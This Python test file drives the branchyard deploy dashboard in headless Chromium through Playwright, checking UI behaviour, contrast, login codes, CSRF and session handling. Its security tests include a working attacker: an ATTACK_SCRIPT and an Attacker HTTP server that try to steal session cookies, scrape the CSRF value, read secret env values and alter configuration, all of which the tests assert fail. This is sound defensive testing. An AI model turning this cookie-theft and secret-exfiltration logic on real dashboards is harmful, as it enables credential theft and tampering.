"""The dashboard in a real browser: Debian's chromium, driven by Playwright.

Each test starts the real daemon with real repos (the ``daemon`` and ``make_repo``
fixtures) and looks at the pages as a person would. Screenshots go to
``test-artifacts/``; with ``BRANCHYARD_DOCS_SCREENSHOT=1`` the overview's also
replaces ``docs/dashboard.png``.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import shutil
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, ViewportSize, expect, sync_playwright

from branchyard.sessions import (
    CODE_SECONDS,
    COOKIE_PREFIX,
    SESSION_SECONDS,
    Sessions,
    cookie_values,
    under_key,
)
from tests.conftest import (
    SERVICE,
    Daemon,
    ServiceRepo,
    free_port,
    git,
    stdlib_service,
    wait_for,
)

CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
ROOT = Path(__file__).resolve().parent.parent
ARTIFACTS = ROOT / "test-artifacts"
LAPTOP: ViewportSize = {"width": 1280, "height": 800}
PHONE: ViewportSize = {"width": 390, "height": 844}
# A service that takes a moment to start, so a browser can see it between building and live.
SLOW_SERVICE = "import time\ntime.sleep(1.5)\n" + SERVICE


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            launched.close()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport=LAPTOP)
    context.set_default_timeout(30_000)
    opened = context.new_page()
    problems: list[str] = []
    opened.on("pageerror", lambda error: problems.append(str(error)))
    try:
        yield opened
    finally:
        context.close()
    assert not problems, problems


def api_base(daemon: Daemon) -> str:
    """The dashboard on the API's own port (the router's address proxies to it)."""
    return str(daemon.info["api"])


def send(
    base: str, method: str, path: str, headers: dict[str, str], body: str | None = None
) -> tuple[int, str]:
    """(status, body) of one request to ``base`` (``http://HOST:PORT``), as given."""
    host, port = base.removeprefix("http://").rsplit(":", 1)
    connection = http.client.HTTPConnection(host, int(port), timeout=10)
    try:
        connection.request(method, path, body, headers)
        response = connection.getresponse()
        return response.status, response.read().decode()
    finally:
        connection.close()


def api(daemon: Daemon, method: str, path: str, token: str | None = None) -> tuple[int, Any]:
    token = token if token is not None else (daemon.home / "token").read_text().strip()
    status, raw = send(api_base(daemon), method, path, {"Authorization": f"Bearer {token}"})
    return status, json.loads(raw) if raw else None


def login_code(daemon: Daemon) -> str:
    status, body = api(daemon, "POST", "/api/dashboard/login-code")
    assert status == 200, body
    assert body["expires_in"] == 300
    return str(body["code"])


UNDER_KEY = r"/d/[\w-]{32}/"  # where a session's pages are (its cookie's Path)


def log_in(page: Page, daemon: Daemon, base: str | None = None) -> str:
    """Log ``page`` in at ``base`` (the API's address unless given); the session's root."""
    page.goto(f"{base or api_base(daemon)}/login?code={login_code(daemon)}")
    expect(page).to_have_url(re.compile(UNDER_KEY + "$"))
    expect(page.get_by_role("heading", name="Environments")).to_be_visible()
    return root(page)


def root(page: Page) -> str:
    """The ``/d/KEY`` the page's links and calls start with."""
    return str(page.locator("body").get_attribute("data-root"))


def cell(page: Page, namespace: str, service: str) -> Any:
    return page.locator(f'td[data-slot="{namespace}:{service}"]')


def shoot(page: Page, name: str, full_page: bool = True) -> Path:
    ARTIFACTS.mkdir(exist_ok=True)
    path = ARTIFACTS / f"dashboard-{name}.png"
    page.screenshot(path=path, full_page=full_page)
    return path


# Every element with text of its own, whose contrast with its background is under 4.5:1.
LOW_CONTRAST = """() => {
  const rgb = (text) => text.match(/[\\d.]+/g).map(Number);
  const channel = (c) => ((c /= 255) <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4);
  const luminance = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const background = (el) => {
    for (let e = el; e; e = e.parentElement) {
      const color = rgb(getComputedStyle(e).backgroundColor);
      if (color.length < 4 || color[3] > 0) return color;
    }
    return [255, 255, 255];
  };
  const low = [];
  for (const el of document.querySelectorAll("body *")) {
    const own = [...el.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
    if (!own || !el.getClientRects().length) continue;
    const [a, b] = [luminance(rgb(getComputedStyle(el).color)), luminance(background(el))];
    const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
    if (ratio < 4.5) low.push(`${el.className} ${ratio.toFixed(2)}: ${el.textContent.trim()}`);
  }
  return low;
}"""


def readable(page: Page) -> None:
    """WCAG AA: text contrasts 4.5:1 with its background; a focused element shows a ring."""
    assert page.evaluate(LOW_CONTRAST) == []


def focus_ring(page: Page) -> str:
    return str(page.evaluate("getComputedStyle(document.activeElement).outlineStyle"))


def sha7(repo: ServiceRepo) -> str:
    return git("rev-parse", "--short=7", "HEAD", cwd=repo.clone)


def register(daemon: Daemon, *repos: ServiceRepo) -> None:
    for repo in repos:
        daemon.cli("repo", "add", str(repo.origin))


@pytest.mark.integration
def test_the_overview_follows_a_push_from_building_to_live_without_a_reload(
    daemon: Daemon, make_repo: Callable[..., ServiceRepo], page: Page
) -> None:
    app, other, web = (make_repo(n, stdlib_service(README=n)) for n in ("app", "other_app", "web"))
    register(daemon, app, other, web)
    for repo in (app, web):
        repo.checkout("bugfix")
        repo.push("bugfix")
    web.checkout("broken")
    failing_step = "print('web.py:3: SyntaxError, say'); raise SystemExit(3)\n"
    web.commit(
        {"branchyard.yaml": "build:\n  - python check.py\n", "check.py": failing_step}, "break"
    )
    web.push("broken")
    wait_for(lambda: len(daemon.ps_q("bugfix")) == 2, 30, "bugfix up")
    wait_for(lambda: daemon.row("broken", "web")["latest"]["state"] == "failed", 30, "broken")
    wait_for(
        lambda: all(daemon.row("main", s)["state"] == "live" for s in ("app", "other_app", "web")),
        30,
        "main live",
    )

    log_in(page, daemon)
    rows = page.locator("#grid tbody tr")
    expect(rows).to_have_count(3)
    assert rows.locator("th .ns-name").all_inner_texts() == ["main", "broken", "bugfix"]
    columns = page.locator("#grid thead th").all_inner_texts()
    assert columns == ["Namespace", "app", "other_app", "web"]
    first = sha7(app)
    expect(cell(page, "main", "app")).to_have_attribute("data-state", "live")
    expect(cell(page, "main", "app")).to_have_attribute("data-sha", first)
    expect(cell(page, "main", "app").locator("a.open")).to_have_attribute(
        "href", f"http://app.main.localhost:{daemon.router_port}/"
    )
    expect(page.locator("#ns-broken")).to_have_class("failing")
    expect(page.locator("#ns-broken .flag")).to_have_text("failing: web")
    expect(cell(page, "broken", "web")).to_have_attribute("data-state", "failed")
    expect(page.locator("#ns-main")).not_to_have_class("failing")
    readable(page)
    shoot(page, "overview-laptop")
    if os.environ.get("BRANCHYARD_DOCS_SCREENSHOT"):
        shutil.copy(shoot(page, "overview-docs", full_page=False), ROOT / "docs/dashboard.png")
    page.set_viewport_size(PHONE)
    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 0, "the page itself must not scroll sideways on a phone"
    shoot(page, "overview-phone")
    page.set_viewport_size(LAPTOP)

    # A push, watched: the cell goes building (or starting), then live, with no reload.
    navigations: list[str] = []
    page.on("framenavigated", lambda frame: navigations.append(frame.url))
    page.evaluate("window.stillTheSamePage = true")
    app.checkout("main", new=False)
    sha = app.commit({"app.py": SLOW_SERVICE}, "start slowly")[:7]
    app.push("main")
    busy = ", ".join(f'[data-slot="main:app"][data-state="{s}"]' for s in ("building", "starting"))
    expect(page.locator(busy)).to_have_attribute("data-sha", sha)
    expect(cell(page, "main", "app")).to_have_attribute("data-state", "live", timeout=30_000)
    expect(cell(page, "main", "app")).to_have_attribute("data-sha", sha)
    assert page.evaluate("window.stillTheSamePage") is True
    assert navigations == []
    assert daemon.row("main", "app")["live"]["sha7"] == sha

    # Keyboard: cells are links; arrow keys move between them, Enter opens one.
    page.locator("#cell-main-app").focus()
    page.keyboard.press("ArrowRight")
    expect(page.locator("#cell-main-other_app")).to_be_focused()
    assert focus_ring(page) == "solid"
    page.keyboard.press("ArrowDown")  # broken has no other_app: on to bugfix, which has none
    expect(page.locator("#cell-main-other_app")).to_be_focused()
    page.keyboard.press("ArrowRight")
    page.keyboard.press("ArrowDown")
    expect(page.locator("#cell-broken-web")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile(r"/ns/broken/web$"))
    expect(page.locator("#build-details")).to_have_attribute("open", "")
    expect(page.locator("#part-status .reason")).to_contain_text("exited 3")
    expect(page.locator("#build-log")).to_contain_text("web.py:3: SyntaxError, say")
    readable(page)
    shoot(page, "service-failed")


@pytest.mark.integration
def test_rollback_and_env_edit_from_the_service_page(
    daemon: Daemon, make_repo: Callable[..., ServiceRepo], page: Page
) -> None:
    colored = "print('\\x1b[32mcolored\\x1b[0m output', flush=True)\n"
    app = make_repo("app", stdlib_service(**{"app.py": colored + SERVICE}))
    register(daemon, app)
    wait_for(lambda: daemon.row("main", "app")["state"] == "live", 30, "v1 live")
    second = app.commit({"x": "2"}, "second commit")
    app.push()
    wait_for(lambda: daemon.serves("app", "main", second), 30, "v2 live")

    log_in(page, daemon)
    page.locator("#cell-main-app").click()
    expect(page.get_by_role("heading", name="app in main")).to_be_visible()
    expect(page.locator("#rev-2")).to_contain_text("second commit")
    expect(page.locator("#rev-2")).to_contain_text("serving")
    expect(page.locator("#rev-1")).to_contain_text("first")
    expect(page.locator("#logs")).to_contain_text("listening on")
    expect(page.locator("#logs")).to_contain_text("colored output")  # no escapes shown
    assert "\x1b" not in (page.locator("#logs").text_content() or "")

    page.get_by_role("button", name="Roll back to v1").click()
    expect(page.locator("#notice")).to_have_text("app in main is on v1, pinned.")
    expect(page.locator("#rev-1")).to_contain_text("serving")
    row = daemon.row("main", "app")
    assert (row["live"]["ordinal"], row["pinned"]) == (1, 1)
    assert "pinned v1" in daemon.cli("ps").stdout
    page.get_by_role("button", name="Promote v2").click()
    expect(page.locator("#notice")).to_have_text("app in main is on v2, pinned.")
    assert daemon.row("main", "app")["live"]["ordinal"] == 2
    page.get_by_role("button", name="Unpin: follow new commits").click()
    expect(page.locator("#notice")).to_have_text("Unpinned.")
    assert daemon.row("main", "app")["pinned"] is None

    page.locator("#env-text").fill("GREETING=hi from the dashboard\n")
    page.locator("#env-message").fill("say hi")
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#notice")).to_contain_text("rolling out a new revision")
    assert "GREETING=hi from the dashboard" in daemon.cli("env", "ls", "app").stdout
    expect(page.locator("#part-history")).to_contain_text("say hi")
    expect(page.locator("#part-history .diff").first).to_contain_text(
        "GREETING: hi from the dashboard"
    )
    expect(page.locator("#rev-3")).to_contain_text("serving", timeout=30_000)
    port = wait_for(lambda: daemon.answer("app")["env"]["PORT"], 10, "v3 answers")
    expect(page.locator("#logs")).to_contain_text(f"listening on {port}")  # follows v3 now
    daemon.cli("env", "set", "--secret", "app", "API_KEY=very-secret")
    expect(page.locator("#env-table")).to_contain_text("API_KEY")
    assert "very-secret" not in page.content()

    page.locator("#env-text").fill("not an assignment")
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#problem")).to_contain_text("is not KEY=VALUE")
    page.locator("#env-text").fill("PORT=1\n")
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#problem")).to_contain_text("PORT")
    readable(page)
    shoot(page, "service")
    page.set_viewport_size(PHONE)
    overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    assert overflow <= 0, "the page itself must not scroll sideways on a phone"
    shoot(page, "service-phone")


def env_via_api(daemon: Daemon) -> dict[str, str]:
    status, body = api(daemon, "GET", "/api/namespaces/main/services/app/env")
    assert status == 200, body
    return dict(body["env"])


@pytest.mark.integration
def test_the_env_editor_keeps_multi_line_values_and_refuses_to_overwrite_a_newer_env(
    daemon: Daemon, make_repo: Callable[..., ServiceRepo], page: Page
) -> None:
    register(daemon, make_repo("app"))
    wait_for(lambda: daemon.ps_q() == ["main:app"], 30, "main:app")
    daemon.cli("env", "set", "app", "DSN=host=db\nsslmode=require", 'QUOTED="as typed"')
    at = log_in(page, daemon)
    page.goto(f"{api_base(daemon)}{at}/ns/main/app")
    editor = page.locator("#env-text")
    dsn, quoted = 'DSN="host=db\\nsslmode=require"\n', 'QUOTED="\\"as typed\\""\n'
    shown = dsn + quoted
    expect(editor).to_have_value(shown)

    editor.fill(shown + "OTHER=1\n")
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#notice")).to_contain_text("rolling out a new revision")
    assert env_via_api(daemon) == {
        "DSN": "host=db\nsslmode=require",
        "QUOTED": '"as typed"',
        "OTHER": "1",
    }
    expect(page.locator("#part-history")).to_contain_text("edit app in main: set OTHER")

    editor.fill(shown + "OTHER=1\nMINE=lost race\n")
    daemon.cli("env", "set", "app", "THEIRS=won race")
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#problem")).to_contain_text("changed since version")
    expect(page.locator("#problem")).to_contain_text("the editor now shows the latest")
    expect(editor).to_have_value(dsn + "OTHER=1\n" + quoted + "THEIRS=won race\n")
    assert "MINE" not in env_via_api(daemon)

    editor.fill('BROKEN="not closed\n')
    page.get_by_role("button", name="Save env").click()
    expect(page.locator("#problem")).to_contain_text('line 1: a value that starts with " is a JSON')
    assert env_via_api(daemon)["THEIRS"] == "won race"


@pytest.mark.integration
def test_a_wrong_token_or_login_code_is_refused(daemon: Daemon, page: Page) -> None:
    base = api_base(daemon)
    page.goto(f"{base}/")
    expect(page).to_have_url(f"{base}/login")
    assert page.context.cookies() == []

    answer = page.goto(f"{base}/login?code=not-a-code")
    assert answer is not None and answer.status == 401
    expect(page.get_by_role("alert")).to_contain_text("This login link is not valid")

    code = login_code(daemon)
    page.goto(f"{base}/login?code={code}")
    expect(page).to_have_url(re.compile(f"^{re.escape(base)}{UNDER_KEY}$"))
    cookie = page.context.cookies()[0]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
    assert cookie["path"] == f"{root(page)}/"
    page.context.clear_cookies()
    answer = page.goto(f"{base}/login?code={code}")  # once only
    assert answer is not None and answer.status == 401

    page.locator("#token").fill("wrong-token")
    with page.expect_response(f"{base}/login") as sent:
        page.get_by_role("button", name="Log in").click()
    assert sent.value.status == 401
    expect(page.get_by_role("alert")).to_contain_text("not this daemon's API token")
    readable(page)
    shoot(page, "login-refused")
    page.locator("#token").fill((daemon.home / "token").read_text().strip())
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("heading", name="Environments")).to_be_visible()
    at = f"{base}{root(page)}"

    # The session cookie works for the API (under its key), but a change also needs the
    # page's CSRF value.
    assert page.request.get(f"{at}/api/info").status == 200
    refused = page.request.post(f"{at}/api/dashboard/login-code")
    assert refused.status == 403 and refused.json()["error"] == "csrf"
    csrf = page.locator('meta[name="branchyard-csrf"]').get_attribute("content") or ""
    allowed = page.request.post(
        f"{at}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf}
    )
    assert allowed.status == 200
    wrong = page.request.post(
        f"{at}/api/dashboard/login-code", headers={"X-Branchyard-CSRF": csrf + "x"}
    )
    assert wrong.status == 403

    # A rotated token ends every session.
    daemon.cli("token", "rotate")
    assert page.request.get(f"{at}/api/info").status == 401
    page.goto(f"{at}/")
    expect(page).to_have_url(f"{base}/login")


@pytest.mark.integration
def test_branchyard_dashboard_prints_a_link_for_the_routers_own_address(
    daemon: Daemon, page: Page
) -> None:
    link = daemon.cli("dashboard").stdout.strip()
    assert re.fullmatch(rf"http://localhost:{daemon.router_port}/login\?code=[\w-]+", link)
    page.goto(link)
    expect(page).to_have_url(re.compile(f"^http://localhost:{daemon.router_port}{UNDER_KEY}$"))
    expect(page.get_by_role("heading", name="Environments")).to_be_visible()
    expect(page.locator(".empty")).to_contain_text("branchyard repo add")
    # A service's address still goes to the service (here: none yet, so 404 from the router).
    status, _ = daemon.get(f"nothing.main.localhost:{daemon.router_port}")
    assert status == 404


SECRET = "hunter2-never-leaves"
ENV_PATH = "/api/namespaces/main/services/app/env"
# What the attacker's page tries in the operator's browser: read the secrets and the page
# (with its CSRF value), change main's env (with and without a preflight), then send the
# browser to show_secrets by a redirect.
ATTACK_SCRIPT = """
(async () => {
  const env = DASHBOARD + ENV_PATH;
  const change = JSON.stringify({ set: { GREETING: "owned" } });
  const tries = {
    secrets: () => fetch(env + "?show_secrets=true", { credentials: "include" })
      .then((r) => r.text()),
    page: () => fetch(DASHBOARD + "/", { credentials: "include" }).then((r) => r.text()),
    patch: () => fetch(env, {
      method: "PATCH", credentials: "include", body: change,
      headers: { "Content-Type": "application/json", "X-Branchyard-CSRF": "guessed" },
    }).then((r) => r.status),
    post: () => fetch(env, {
      method: "POST", mode: "no-cors", credentials: "include", body: change,
      headers: { "Content-Type": "text/plain" },
    }).then((r) => r.type),
  };
  const said = {};
  for (const [name, run] of Object.entries(tries)) {
    try { said[name] = String(await run()); } catch (error) { said[name] = "refused: " + error; }
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(said) });
  location.href = "/bounce";
})();
"""


class Attacker(ThreadingHTTPServer):
    """A plain HTTP server on another loopback port, standing in for the router's port
    that leads to pushed code (``http://localhost:PEER/``), where a service's redirect
    sends the operator's browser. It keeps everything the browser sends it; with a
    session cookie it does what the box did: takes the CSRF value from the dashboard's
    page, reads the secrets and changes main's env. It also sets a cookie of the
    session's name on ``/d/``, as any port of the host may."""

    def __init__(self, host: str, dashboard: str) -> None:
        self.dashboard = dashboard
        self.cookie_name = COOKIE_PREFIX + dashboard.rsplit(":", 1)[1]
        self.received: list[str] = []  # every request's line, headers and body
        self.sessions: list[str] = []  # the session cookies among them, not its own
        self.loot: list[str] = []  # what it got from the dashboard with one
        self.origin = f"http://{host}:{free_port()}"
        super().__init__(("127.0.0.1", int(self.origin.rsplit(":", 1)[1])), _AttackerHandler)

    def heard(self, handler: BaseHTTPRequestHandler, body: str = "") -> None:
        self.received.append(f"{handler.requestline}\n{handler.headers}{body}")
        for value in cookie_values(handler.headers.get("Cookie", ""), self.cookie_name):
            if value != "tossed":
                self.sessions.append(value)
                self.steal(f"{self.cookie_name}={value}")

    def steal(self, cookie: str) -> None:
        _, page = send(self.dashboard, "GET", "/", {"Cookie": cookie})
        found = re.search(r'name="branchyard-csrf" content="([^"]+)"', page)
        csrf = {"X-Branchyard-CSRF": found[1]} if found else {}
        self.loot.append(
            send(self.dashboard, "GET", f"{ENV_PATH}?show_secrets=true", {"Cookie": cookie})[1]
        )
        change = json.dumps({"set": {"GREETING": "owned"}})
        headers = {"Cookie": cookie, "Content-Type": "application/json", **csrf}
        self.loot.append(send(self.dashboard, "PATCH", ENV_PATH, headers, change)[1])


class _AttackerHandler(BaseHTTPRequestHandler):
    server: Attacker

    def log_message(self, *args: object) -> None:
        pass

    def answer(self, status: int, body: str = "", **headers: str) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name.replace("_", "-"), value)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())

    def do_GET(self) -> None:
        self.server.heard(self)
        if self.path == "/bounce":
            self.answer(303, Location=f"{self.server.dashboard}{ENV_PATH}?show_secrets=true")
            return
        script = f"const DASHBOARD = {json.dumps(self.server.dashboard)};\n"
        script += f"const ENV_PATH = {json.dumps(ENV_PATH)};\n{ATTACK_SCRIPT}"
        self.answer(
            200,
            f'<!doctype html><link rel="icon" href="data:,"><script>{script}</script>',
            Content_Type="text/html",
            Set_Cookie=f"{self.server.cookie_name}=tossed; Path=/d/",
        )

    def do_POST(self) -> None:
        length = int(self.headers.get("Content-Length", "0"))
        self.server.heard(self, self.rfile.read(length).decode(errors="replace"))
        self.answer(204)


def with_a_secret(daemon: Daemon, make_repo: Callable[..., ServiceRepo]) -> None:
    """app in main, with GREETING=hello and the secret DB_PASSWORD."""
    register(daemon, make_repo("app"))
    wait_for(lambda: daemon.ps_q() == ["main:app"], 30, "main:app")
    daemon.cli("env", "set", "app", "GREETING=hello")
    daemon.cli("env", "set", "--secret", "app", f"DB_PASSWORD={SECRET}")


@pytest.mark.integration
@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"])
def test_a_page_on_another_loopback_port_gets_no_session_and_changes_nothing(
    daemon: Daemon, make_repo: Callable[..., ServiceRepo], page: Page, host: str
) -> None:
    with_a_secret(daemon, make_repo)
    dashboard = f"http://{host}:{daemon.router_port}"  # where `branchyard dashboard` sends one
    at = log_in(page, daemon, dashboard)

    attacker = Attacker(host, dashboard)
    serving = threading.Thread(target=attacker.serve_forever)
    serving.start()
    try:
        page.goto(f"{attacker.origin}/")  # where a service's redirect sent the browser
        page.wait_for_url(re.compile(re.escape(f"{dashboard}{ENV_PATH}?show_secrets")))
    finally:
        attacker.shutdown()
        serving.join()
        attacker.server_close()

    assert [r.split(" ", 2)[1] for r in attacker.received] == ["/", "/report", "/bounce"]
    assert attacker.sessions == [], "a server on another port got the session cookie"
    assert attacker.loot == []
    assert not any(SECRET in text for text in attacker.received)
    assert SECRET not in page.content()  # the redirect to show_secrets got a 401
    assert "GREETING=hello" in daemon.cli("env", "ls", "app").stdout
    assert "owned" not in daemon.cli("env", "ls", "app").stdout
    # The cookie it set on /d/ is sent to the dashboard beside the session's own, which
    # still counts.
    assert any(c["value"] == "tossed" for c in page.context.cookies())
    page.goto(f"{dashboard}{at}/")
    expect(page.get_by_role("heading", name="Environments")).to_be_visible()


@pytest.mark.integration
def test_a_session_cookie_opens_nothing_without_its_own_key_and_never_reads_secrets(
    daemon: Daemon, make_repo: Callable[..., ServiceRepo], browser: Browser, page: Page
) -> None:
    with_a_secret(daemon, make_repo)
    base = api_base(daemon)
    at = log_in(page, daemon)
    cookie = next(c for c in page.context.cookies() if c["name"].startswith(COOKIE_PREFIX))
    held = {"Cookie": f"{cookie['name']}={cookie['value']}"}
    csrf = page.locator('meta[name="branchyard-csrf"]').get_attribute("content") or ""
    elsewhere = browser.new_context()
    theirs = log_in(elsewhere.new_page(), daemon)
    elsewhere.close()

    status, body = send(base, "GET", f"{at}{ENV_PATH}", held)
    assert status == 200 and json.loads(body)["secrets"] == {"DB_PASSWORD": "********"}
    refused = [
        ("GET", ENV_PATH, 401),  # no key: the API
        ("GET", "/", 303),  # no key: a page, sent to log in
        ("GET", "/ns/main/app", 303),
        ("GET", "/?part=live", 401),
        ("GET", f"{theirs}{ENV_PATH}", 401),  # another session's key
        ("GET", f"{theirs}/", 303),
        ("GET", f"/d/{'x' * 32}{ENV_PATH}", 401),  # a made-up one
        ("PATCH", ENV_PATH, 401),
    ]
    for method, path, expected in refused:
        status, body = send(base, method, path, {**held, "X-Branchyard-CSRF": csrf})
        assert status == expected, (method, path, status)
        assert SECRET not in body and "branchyard-csrf" not in body
    for asking in ({}, {"X-Branchyard-CSRF": csrf}):  # under its key, CSRF value or not
        status, body = send(base, "GET", f"{at}{ENV_PATH}?show_secrets=true", {**held, **asking})
        assert (status, json.loads(body)["error"]) == (403, "forbidden")
        assert SECRET not in body
    assert api(daemon, "GET", f"{ENV_PATH}?show_secrets=true")[1]["secrets"] == {
        "DB_PASSWORD": SECRET
    }
    assert "owned" not in daemon.cli("env", "ls", "app").stdout

    page.get_by_role("button", name="Log out").click()
    expect(page).to_have_url(f"{base}/login")
    assert [c for c in page.context.cookies() if c["name"] == cookie["name"]] == []
    assert send(base, "GET", f"{at}{ENV_PATH}", held)[0] == 401  # the session ended


@pytest.mark.parametrize(
    ("path", "found"),
    [
        (f"/d/{'k' * 32}/", ("k" * 32, "/")),
        (f"/d/{'k' * 32}/api/info", ("k" * 32, "/api/info")),
        (f"/d/{'A-_9' * 8}/ns/main/app", ("A-_9" * 8, "/ns/main/app")),
        (f"/d/{'k' * 32}", None),  # Path=/d/KEY/ is not sent here
        (f"/d/{'k' * 31}/", None),
        (f"/d/{'k' * 33}/", None),
        (f"/d/{'k' * 31}./", None),
        (f"/x/d/{'k' * 32}/", None),
        ("/api/info", None),
        ("/", None),
    ],
)
def test_a_path_is_under_a_session_key_only_as_d_key_slash(
    path: str, found: tuple[str, str] | None
) -> None:
    assert under_key(path) == found


@pytest.mark.parametrize(
    ("header", "values"),
    [
        ("branchyard_session_7080=mine", ["mine"]),
        ("a=1; branchyard_session_7080=mine; branchyard_session_7080=tossed", ["mine", "tossed"]),
        ("branchyard_session_70800=other; xbranchyard_session_7080=no", []),
        ("branchyard_session_7080", []),
        (" branchyard_session_7080 = spaced ", ["spaced"]),
        ("branchyard_session_7080=a=b", ["a=b"]),
        ("", []),
    ],
)
def test_each_value_a_cookie_header_gives_the_session_name_is_found(
    header: str, values: list[str]
) -> None:
    assert cookie_values(header, "branchyard_session_7080") == values


def test_a_login_code_works_once_and_only_for_five_minutes() -> None:
    now = [1000.0]
    sessions = Sessions(clock=lambda: now[0])
    code = sessions.new_code("the-token")
    assert sessions.redeem(code) == "the-token"
    assert sessions.redeem(code) is None
    late = sessions.new_code("the-token")
    now[0] += CODE_SECONDS
    assert sessions.redeem(late) is None
    assert sessions.redeem("made-up") is None


def test_a_session_ends_after_twelve_hours_or_at_logout() -> None:
    now = [1000.0]
    sessions = Sessions(clock=lambda: now[0])
    first, session = sessions.open("the-token")
    second, other = sessions.open("the-token")
    assert sessions.get(first) is session and session.token == "the-token"
    assert first != second and session.csrf != other.csrf
    assert first not in sessions.sessions  # kept by hash only
    sessions.close(second)
    assert sessions.get(second) is None
    now[0] += SESSION_SECONDS - 1
    assert sessions.get(first) is session
    now[0] += 1
    assert sessions.get(first) is None
    assert sessions.get(None) is None and sessions.get("") is None
